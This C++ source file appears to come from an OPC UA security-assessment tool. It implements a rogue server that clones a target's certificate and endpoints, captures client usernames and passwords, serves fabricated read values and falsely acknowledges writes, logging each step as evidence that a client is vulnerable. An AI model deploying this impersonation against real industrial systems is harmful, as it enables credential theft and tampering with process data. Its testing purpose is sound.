#include "uatrust/attacks/rogue_server.hpp"

namespace uatrust::attacks {

namespace pu = secchan::policy_uri;
using codec::DataValue;
using codec::MessageSecurityMode;
using codec::ServiceBody;

namespace {

bool implementable(const std::string& uri)
{
    if (uri == pu::None) return true;
    try {
        secchan::suite_for_uri(uri);
        return true;
    } catch (const secchan::SecError&) {
        return false;
    }
}

codec::ResponseHeader respond_to(const codec::RequestHeader& h)
{
    codec::ResponseHeader r;
    r.timestamp = codec::DateTime::now();
    r.request_handle = h.request_handle;
    r.service_result = status::Good;
    return r;
}

}  // namespace

ValueGenerator default_generator(codec::Variant constant)
{
    return [constant](const codec::NodeId&, const std::optional<DataValue>& last_real) {
        if (last_real) return *last_real;
        DataValue dv;
        dv.value = constant;
        dv.status = status::Good;
        return dv;
    };
}

server::ServerConfig clone_server_config(const TargetDescriptor& target, const pki::Identity& identity,
                                         bool advertise_target_urls)
{
    server::ServerConfig cfg;
    cfg.application.application_uri = target.application.application_uri.value_or("");
    cfg.application.product_uri = target.application.product_uri.value_or("");
    cfg.application.application_name = target.application.application_name.text.value_or("");
    cfg.identity = identity;
    for (const auto& ep : target.endpoints) {
        const std::string policy = ep.security_policy_uri.value_or("");
        if (ep.security_mode == MessageSecurityMode::Invalid || !implementable(policy)) continue;
        if ((policy == pu::None) != (ep.security_mode == MessageSecurityMode::None)) continue;
        server::EndpointDescriptor d;
        if (advertise_target_urls) d.endpoint_url = ep.endpoint_url.value_or("");
        d.mode = ep.security_mode;
        d.security_policy_uri = policy;
        for (const auto& t : ep.user_identity_tokens) {
            if (t.token_type != codec::UserTokenType::Anonymous && t.token_type != codec::UserTokenType::UserName)
                continue;
            const std::string token_policy = t.security_policy_uri.value_or("");
            if (!token_policy.empty() && !implementable(token_policy)) continue;
            d.user_token_policies.push_back({t.token_type, token_policy, t.policy_id.value_or("")});
        }
        cfg.endpoints.push_back(std::move(d));
    }
    cfg.trust_policy = pki::TrustPolicy::accept_all();
    cfg.anonymous_allowed = true;
    return cfg;
}

std::unique_ptr<RogueServer> RogueServer::start(const TargetDescriptor& target, RogueServerOptions options)
{
    std::unique_ptr<RogueServer> rogue(new RogueServer());
    if (options.identity) {
        rogue->identity_ = *options.identity;
    } else if (target.server_certificate) {
        rogue->identity_ = pki::clone_certificate(*target.server_certificate);
    } else {
        const std::string uri = target.application.application_uri.value_or("urn:rogue");
        rogue->identity_ = pki::generate_identity(target.application.application_name.text.value_or("server"),
                                                  uri.empty() ? "urn:rogue" : uri, 365);
    }
    if (!options.generator) options.generator = default_generator();
    rogue->options_ = std::move(options);

    auto cfg = clone_server_config(target, rogue->identity_, rogue->options_.advertise_target_urls);
    cfg.host = rogue->options_.host;
    cfg.port = rogue->options_.port;
    cfg.transcript = rogue->options_.transcript;
    RogueServer* self = rogue.get();
    cfg.authenticate = [self](const server::AuthRequest& r) { return self->authenticate(r); };
    cfg.intercept = [self](server::ServiceCall& c) { return self->handle(c); };
    cfg.on_channel_open = [self](const server::ChannelInfo& c, const secchan::SecureChannelState&) {
        self->channel_opened(c);
    };
    rogue->outcome_.attack = AttackKind::RogueServer;
    rogue->outcome_.attacker_certificates.push_back(rogue->identity_.certificate.thumbprint);
    rogue->server_ = server::Server::start(std::move(cfg));
    return rogue;
}

RogueServer::~RogueServer() { stop(); }

void RogueServer::stop()
{
    if (server_) server_->stop();
}

void RogueServer::channel_opened(const server::ChannelInfo& channel)
{
    if (channel.mode == MessageSecurityMode::None) return;
    std::map<std::string, std::string> fields{{"mode", codec::to_string(channel.mode)},
                                              {"policy", channel.security_policy_uri},
                                              {"peer", channel.peer}};
    if (channel.client_certificate) {
        fields["client_application_uri"] = channel.client_certificate->application_uri;
        fields["client_thumbprint"] = pki::to_hex(channel.client_certificate->thumbprint);
    }
    std::lock_guard lock(mutex_);
    outcome_.add(EvidenceKind::UntrustedChannelAccepted, Side::Client,
                 "victim client opened a " + std::string(codec::to_string(channel.mode)) +
                     " channel to the cloned certificate",
                 std::move(fields));
}

StatusCode RogueServer::authenticate(const server::AuthRequest& r)
{
    if (r.token_type == codec::UserTokenType::UserName) {
        CapturedCredential c;
        c.username = r.user_name;
        c.password = r.password;
        c.token_policy_uri = r.secret_policy_uri;
        c.captured_at = std::chrono::system_clock::now();
        c.victim_application_uri = r.session.client_description.application_uri.value_or("");
        c.was_encrypted = r.password_encrypted;
        {
            std::lock_guard lock(mutex_);
            outcome_.credentials.push_back(c);
            outcome_.add(EvidenceKind::CredentialCaptured, Side::Client,
                         std::string(r.password_encrypted ? "decrypted" : "plaintext") + " password of " + c.username,
                         {{"user", c.username},
                          {"token_policy", c.token_policy_uri},
                          {"victim_application_uri", c.victim_application_uri}});
        }
        captured_.notify_all();
        if (options_.on_credential) options_.on_credential(c);
    }
    if (options_.authenticate) return options_.authenticate(r);
    return status::Good;
}

std::optional<ServiceBody> RogueServer::handle(server::ServiceCall& call)
{
    if (options_.intercept)
        if (auto replaced = options_.intercept(call)) return replaced;

    if (auto* rq = std::get_if<codec::ReadRequest>(&call.request)) {
        codec::ReadResponse resp;
        resp.response_header = respond_to(rq->request_header);
        std::lock_guard lock(mutex_);
        for (const auto& n : rq->nodes_to_read) {
            const auto it = last_real_.find(n.node_id);
            const auto real = it == last_real_.end() ? std::nullopt : std::optional<DataValue>(it->second);
            DataValue dv = options_.generator(n.node_id, real);
            outcome_.add(EvidenceKind::FabricatedData, Side::Client, "served a made-up value for " + n.node_id.to_string(),
                         {{"node", n.node_id.to_string()},
                          {"value", dv.value ? dv.value->to_string() : "null"},
                          {"relayed_before", real ? "true" : "false"}});
            resp.results.push_back(std::move(dv));
        }
        return resp;
    }
    if (auto* wq = std::get_if<codec::WriteRequest>(&call.request)) {
        codec::WriteResponse resp;
        resp.response_header = respond_to(wq->request_header);
        std::lock_guard lock(mutex_);
        for (const auto& w : wq->nodes_to_write) {
            outcome_.add(EvidenceKind::FabricatedData, Side::Client,
                         "acknowledged a write the real server never saw on " + w.node_id.to_string(),
                         {{"node", w.node_id.to_string()}, {"value", w.value.value ? w.value.value->to_string() : "null"}});
            resp.results.push_back(status::Good);
        }
        return resp;
    }
    return std::nullopt;
}

std::vector<CapturedCredential> RogueServer::credentials() const
{
    std::lock_guard lock(mutex_);
    return outcome_.credentials;
}

std::optional<CapturedCredential> RogueServer::wait_for_credential(net::Millis timeout) const
{
    std::unique_lock lock(mutex_);
    if (!captured_.wait_for(lock, timeout, [&] { return !outcome_.credentials.empty(); })) return std::nullopt;
    return outcome_.credentials.front();
}

void RogueServer::observe_real(const codec::NodeId& node, const DataValue& value)
{
    std::lock_guard lock(mutex_);
    last_real_[node] = value;
}

AttackOutcome RogueServer::outcome() const
{
    std::lock_guard lock(mutex_);
    AttackOutcome o = outcome_;
    o.result = o.evidence.empty() ? AttackResult::Secure : AttackResult::Vulnerable;
    if (options_.transcript) {
        o.captures.push_back(options_.transcript);
        o.transcripts.push_back(options_.transcript->label());
    }
    return o;
}

}  // namespace uatrust::attacks
